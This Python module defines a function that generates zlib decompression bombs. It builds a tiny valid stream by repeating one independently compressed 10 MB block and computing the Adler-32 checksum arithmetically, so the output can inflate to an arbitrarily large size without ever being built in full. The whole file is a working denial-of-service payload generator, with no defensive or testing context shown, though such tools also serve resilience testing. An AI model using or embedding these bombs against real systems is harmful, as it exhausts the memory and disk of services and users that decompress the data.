"""Writes small zlib streams that decompress to very much, without compressing all of it."""

import struct
import zlib

_BLOCK = 10_000_000
_MODULUS = 65521  # of Adler-32 (RFC 1950)


def deflate_bomb(byte: bytes, size: int) -> bytes:
    """Return a valid zlib stream of `size` times the same byte; whole blocks of 10 MB."""
    assert size % _BLOCK == 0
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    # After a full flush a block refers to nothing before it, and can be repeated.
    block = compressor.compress(byte * _BLOCK) + compressor.flush(zlib.Z_FULL_FLUSH)
    total = 1 + size * byte[0]
    of_totals = size + byte[0] * size * (size + 1) // 2
    checksum = struct.pack(">HH", of_totals % _MODULUS, total % _MODULUS)
    return b"\x78\xda" + block * (size // _BLOCK) + compressor.flush() + checksum
